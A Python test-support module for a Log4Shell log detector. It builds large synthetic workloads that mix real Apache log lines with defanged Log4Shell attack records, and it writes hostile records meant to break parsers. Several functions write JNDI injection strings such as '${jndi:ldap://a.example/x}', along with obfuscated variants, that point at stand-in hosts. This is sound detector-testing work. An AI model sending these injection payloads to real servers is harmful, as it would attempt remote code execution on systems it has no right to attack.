"""Deterministic large workloads for the fault and memory runs, written to tmp only.

Benign traffic is the real Apache sample (``samples/demo/apache_logs``). Attack
lines reuse the payload forms of the demo's real Log4Shell attempts
(``samples/demo/crowdsec_log4j.log`` and ``corelight_log4j_requests.ecs.jsonl``,
sources in ``samples/demo/SOURCES.md``) with every callback address moved into
the documentation ranges and every callback domain under ``.test``, and are sent
from generated public, non-special source addresses, so that many of them end up
on the blocklist. Nothing here is ever committed: a million lines are rebuilt in
a few seconds from the seed.
"""

from __future__ import annotations

import base64
import binascii
import ipaddress
import json
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from detectors import analyze
from enrichers.special import special_v4
from pipeline.formats.combined import CombinedParser

REPO = Path(__file__).resolve().parents[2]
DEMO = REPO / "samples" / "demo"

_IPV4 = re.compile(r"\b(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\b")
_BASE64_PATH = re.compile(r"(/Base64/)([A-Za-z0-9+/=]+)")
_DOC_NETS = ("192.0.2", "198.51.100", "203.0.113")
_ATTACK_START = datetime(2021, 12, 10, tzinfo=UTC)
_ATTACK_DAYS = 10
_BENIGN_AGENTS = ("Mozilla/5.0 (X11; Linux x86_64)", "curl/7.68.0", "Wget/1.21")


@dataclass(frozen=True)
class Workload:
    """A generated log file and what went into it.

    Args:
        lines: non-blank records written (what ``lines`` must count).
        attacks: records carrying a payload from the demo's attack forms.
        sources: distinct source addresses of those records.
        garbage: records no parser accepts (they must be dead-lettered).
    """

    path: Path
    lines: int
    attacks: int
    sources: int
    garbage: int


def _documentation_ip(match: re.Match[str]) -> str:
    # A stable mapping of any IPv4 literal into the documentation ranges.
    value = int(ipaddress.ip_address(match.group(0)))
    return f"{_DOC_NETS[value % 3]}.{value % 254 + 1}"


def _defang(payload: str) -> str:
    """The payload with its callback hosts moved to documentation names and ranges."""

    def command(match: re.Match[str]) -> str:
        try:
            decoded = base64.b64decode(match.group(2), validate=True).decode()
        except (binascii.Error, UnicodeDecodeError):
            return match.group(0)
        cleaned = _IPV4.sub(_documentation_ip, decoded)
        return match.group(1) + base64.b64encode(cleaned.encode()).decode()

    payload = _BASE64_PATH.sub(command, payload)
    payload = _IPV4.sub(_documentation_ip, payload)
    return re.sub(r"\.(io|com|net|org)\b", ".test", payload)


def attack_payloads() -> list[str]:
    """Each distinct payload of the demo's attack records, defanged, still attacking."""
    found: list[str] = []
    crowdsec = (DEMO / "crowdsec_log4j.log").read_text().strip()
    found.append(crowdsec.rsplit('"', 2)[-2])
    for line in (DEMO / "corelight_log4j_requests.ecs.jsonl").read_text().splitlines():
        doc = json.loads(line)
        headers = doc["http"]["request"].get("headers", {})
        found.extend(v for v in headers.values() if "${" in v)
        if "${" in doc["url"]["original"]:
            found.append(doc["url"]["original"].split("=", 1)[-1])
    payloads = []
    for payload in dict.fromkeys(found):
        # Header prefixes such as "Bearer " stay: the detector must look inside.
        cleaned = _defang(payload)
        if analyze(cleaned).malicious and cleaned not in payloads:
            payloads.append(cleaned)
    return payloads


def public_addresses(count: int, rng: random.Random) -> list[str]:
    """``count`` distinct global IPv4 addresses outside every special-purpose range."""
    seen: set[str] = set()
    out: list[str] = []
    while len(out) < count:
        value = rng.randrange(1 << 24, 224 << 24)
        address = ipaddress.IPv4Address(value)
        text = str(address)
        if text in seen or not address.is_global or special_v4(value) is not None:
            continue
        seen.add(text)
        out.append(text)
    return out


def _clf_time(moment: datetime) -> str:
    return moment.strftime("%d/%b/%Y:%H:%M:%S +0000")


def _attack_line(
    rng: random.Random, address: str, payload: str, moment: datetime
) -> str:
    where = rng.randrange(4)
    if where == 3:
        # ECS JSON, the payload in a request header as Zeek-derived records carry it.
        doc = {
            "@timestamp": moment.strftime("%Y-%m-%dT%H:%M:%SZ"),
            "source": {"ip": address},
            "http": {
                "request": {"method": "GET", "headers": {"X-Api-Version": payload}}
            },
            "url": {"original": "/"},
            "user_agent": {"original": rng.choice(_BENIGN_AGENTS)},
        }
        return json.dumps(doc, separators=(",", ":"))
    quoted = payload.replace("\\", "\\\\").replace('"', '\\"')
    uri, referer, agent = "/", "-", rng.choice(_BENIGN_AGENTS)
    if where == 0:
        agent = quoted
    elif where == 1:
        uri = "/?q=" + quoted.replace(" ", "%20")
    else:
        referer = quoted
    when = _clf_time(moment)
    return f'{address} - - [{when}] "GET {uri} HTTP/1.1" 200 512 "{referer}" "{agent}"'


def _schedule(
    rng: random.Random, attacks: int, addresses: list[str]
) -> Iterator[tuple[str, datetime]]:
    """Who attacks when: a few busy multi-day scanners, many one-shot sources."""
    busy = addresses[: len(addresses) // 10]
    for i in range(attacks):
        address = (
            rng.choice(busy)
            if i % 2 == 0 and busy
            else addresses[(i // 2) % len(addresses)]
        )
        moment = _ATTACK_START + timedelta(seconds=rng.randrange(_ATTACK_DAYS * 86400))
        yield address, moment


def write_fault_workload(
    path: Path,
    *,
    lines: int = 1_000_000,
    attacks: int = 6_000,
    sources: int = 2_000,
    garbage: int = 400,
    seed: int = 44228,
) -> Workload:
    """Write ``lines`` records: benign sample lines, attacks and garbage spread through.

    Example:
        >>> write_fault_workload(tmp / "w.log", lines=1000).lines  # doctest: +SKIP
        1000
    """
    rng = random.Random(seed)
    # Line 8,899 of the real sample is cut inside its User-Agent: leave it out,
    # so that the garbage written here is exactly what is dead-lettered.
    parser = CombinedParser()
    benign = [line for line in (DEMO / "apache_logs").read_bytes().splitlines() if parser.looks_like(line)]
    payloads = attack_payloads()
    addresses = public_addresses(sources, rng)
    special = set(rng.sample(range(lines), attacks + garbage))
    attack_slots = set(rng.sample(sorted(special), attacks))
    schedule = _schedule(rng, attacks, addresses)
    used: set[str] = set()
    with path.open("wb") as out:
        for i in range(lines):
            if i in attack_slots:
                address, moment = next(schedule)
                used.add(address)
                line = _attack_line(rng, address, rng.choice(payloads), moment).encode()
            elif i in special:
                line = b"\x00\xff\xfe garbage record %d \x8f" % i
            else:
                line = benign[i % len(benign)]
            out.write(line + b"\n")
    return Workload(path, lines, attacks, len(used), garbage)


@dataclass(frozen=True)
class HostileWorkload:
    """A generated file of records written to break parsers and slow the detector.

    Args:
        kinds: records written per kind (``binary``, ``huge``, ``deep_json``...).
        huge: records longer than the largest record l4s parses.
    """

    path: Path
    kinds: dict[str, int]
    huge: int

    @property
    def lines(self) -> int:
        return sum(self.kinds.values())


_CLF_PREFIX = b'198.51.100.%d - - [10/Dec/2021:14:25:38 +0000] "GET /'
_CLF_SUFFIX = b' HTTP/1.1" 200 5 "-" "Mozilla/5.0"'
_DEPTH = 100_000


def _clf(rng: random.Random, body: bytes) -> bytes:
    return (_CLF_PREFIX % rng.randrange(1, 255)) + body + _CLF_SUFFIX


def _ecs(doc: dict[str, object]) -> bytes:
    return json.dumps(doc, separators=(",", ":")).encode()


def _binary(rng: random.Random) -> bytes:
    data = (
        rng.randbytes(rng.randrange(1, 2048))
        .replace(b"\n", b"\x00")
        .replace(b"\r", b"\x01")
    )
    return data if data.strip() else b"\x00"


def _invalid_utf8(rng: random.Random, payloads: list[str]) -> bytes:
    body = rng.choice([b"index.html", rng.choice(payloads).encode()])
    cut = rng.randrange(len(body) + 1)
    junk = rng.choice(
        [b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xfe\xfe"]
    )
    return _clf(rng, body[:cut] + junk + body[cut:])


def _truncated(rng: random.Random, payloads: list[str], benign: list[bytes]) -> bytes:
    whole = (
        rng.choice(benign)
        if rng.random() < 0.5
        else _ecs(
            {
                "@timestamp": "2021-12-10T14:25:38Z",
                "source": {"ip": "198.51.100.9"},
                "user_agent": {"original": rng.choice(payloads)},
            }
        )
    )
    return whole[: rng.randrange(1, len(whole))].rstrip(b"\r") or b"{"


def _wrong_types(rng: random.Random, payloads: list[str]) -> bytes:
    wrong: list[object] = [["x"], {"a": 1}, True, None, 12.5, "", [], {}]
    field = rng.choice(
        [
            "source.ip",
            "url.original",
            "http.request.headers",
            "http.response.status_code",
            "@timestamp",
            "user_agent.original",
            "http.request.method",
        ]
    )
    doc: dict[str, object] = {
        "@timestamp": "2021-12-10T14:25:38Z",
        "source": {"ip": "198.51.100.9"},
        "url": {"original": "/?q=" + rng.choice(payloads)},
    }
    value = rng.choice(wrong)
    if field in ("source.ip", "url.original", "user_agent.original", "@timestamp"):
        doc[field] = value  # dotted and nested forms both occur in the wild
    else:
        doc[field] = value if rng.random() < 0.5 else [value, {"nested": value}]
    return _ecs(doc)


def _far_time(rng: random.Random, payloads: list[str]) -> bytes:
    payload = rng.choice(payloads) if rng.random() < 0.5 else "/index.html"
    if rng.random() < 0.5:
        when = rng.choice(
            [
                "31/Dec/9999:23:59:59 +0000",
                "31/Dec/9999:23:59:59 -1400",
                "01/Jan/0001:00:00:00 +1400",
                "01/Jan/0001:00:00:00 +0000",
                "29/Feb/2023:00:00:00 +0000",
                "10/Dec/2021:25:61:61 +9999",
            ]
        )
        line = f'198.51.100.4 - - [{when}] "GET {payload} HTTP/1.1" 200 5 "-" "x"'
        return line.encode()
    stamp: object = rng.choice(
        [
            "9999-12-31T23:59:59Z",
            "9999-12-31T23:59:59-14:00",
            "0001-01-01T00:00:00+14:00",
            "+275760-09-13T00:00:00Z",
            1e300,
            -1e20,
            253402300799999,
            0,
            "NaN",
            "2021-13-45T99:99:99Z",
        ]
    )
    return _ecs(
        {
            "@timestamp": stamp,
            "source": {"ip": "198.51.100.5"},
            "url": {"original": payload},
        }
    )


def _hard_payload(rng: random.Random, big: bool) -> bytes:
    size = 65_536 if big else rng.randrange(200, 4000)
    kind = rng.randrange(9)
    if kind == 0:
        body = b"${" * (size // 2)
    elif kind == 1:
        depth = size // 8
        body = b"${a:-" * depth + b"${jndi:ldap://a.example/x}" + b"}" * depth
    elif kind == 2:
        depth = size // 10
        body = b"${lower:" * depth + b"j" + b"}" * depth
    elif kind == 3:
        body = b"%25" * (size // 3)
    elif kind == 4:
        body = b"&#36;&#123;" * (size // 11)
    elif kind == 5:
        body = b"\\u0024\\u007b" * (size // 12)
    elif kind == 6:
        body = b"".join(b"${jndi:ldap://h%d.example/a}" % i for i in range(size // 28))
    elif kind == 7:
        depth = size // 6
        body = b"${${" * depth + b"::-j}ndi:ldap://a.example/x" + b"}" * (2 * depth)
    else:
        path = "p" * (size // 40)
        return _ecs(
            {
                "@timestamp": "2021-12-10T14:25:38Z",
                "source": {"ip": "198.51.100.6"},
                "http": {
                    "request": {
                        "headers": {
                            f"X-H{i}": f"${{jndi:ldap://h{i}.example/{path}}}"
                            for i in range(40)
                        }
                    }
                },
            }
        )
    return _clf(rng, body)


def _deep_json(which: int) -> bytes:
    if which % 3 == 0:
        return b"[" * _DEPTH + b"]" * _DEPTH
    inner = b'{"a":' * _DEPTH + b"1" + b"}" * _DEPTH
    if which % 3 == 1:
        return inner
    return (
        b'{"@timestamp":"2021-12-10T14:25:38Z","source":{"ip":"198.51.100.7"},"x":'
        + inner
        + b"}"
    )


def _huge(which: int) -> bytes:
    ten_mb = 10 * 1024 * 1024
    if which == 0:
        return _CLF_PREFIX % 1 + b"a" * ten_mb + _CLF_SUFFIX
    if which == 1:
        return _CLF_PREFIX % 2 + b"${" * (ten_mb // 2) + _CLF_SUFFIX
    return (
        b'{"@timestamp":"2021-12-10T14:25:38Z","source":{"ip":"198.51.100.8"},"url":{"original":"'
        + (b"${jndi:ldap://a.example/" * (ten_mb // 24))
        + b'"}}'
    )


def write_hostile_workload(path: Path, seed: int = 9999) -> HostileWorkload:
    """Write at least 10,000 hostile records, shuffled, one per line.

    Example:
        >>> write_hostile_workload(tmp / "h.log").lines  # doctest: +SKIP
        10509
    """
    rng = random.Random(seed)
    payloads = attack_payloads()
    benign = (DEMO / "apache_logs").read_bytes().splitlines()[:2000]
    plan: list[tuple[str, int]] = [
        ("binary", 3_500),
        ("invalid_utf8", 1_500),
        ("truncated", 2_000),
        ("wrong_types", 1_500),
        ("far_time", 500),
        ("hard_small", 1_300),
        ("hard_64k", 200),
        ("deep_json", 6),
        ("huge", 3),
    ]
    slots = [kind for kind, count in plan for _ in range(count)]
    rng.shuffle(slots)
    counters = {kind: 0 for kind, _ in plan}
    with path.open("wb") as out:
        for kind in slots:
            n = counters[kind]
            counters[kind] += 1
            if kind == "binary":
                record = _binary(rng)
            elif kind == "invalid_utf8":
                record = _invalid_utf8(rng, payloads)
            elif kind == "truncated":
                record = _truncated(rng, payloads, benign)
            elif kind == "wrong_types":
                record = _wrong_types(rng, payloads)
            elif kind == "far_time":
                record = _far_time(rng, payloads)
            elif kind == "hard_small":
                record = _hard_payload(rng, big=False)
            elif kind == "hard_64k":
                record = _hard_payload(rng, big=True)
            elif kind == "deep_json":
                record = _deep_json(n)
            else:
                record = _huge(n)
            assert b"\n" not in record and record.strip(), kind
            out.write(record + b"\n")
    return HostileWorkload(path, counters, counters["huge"])
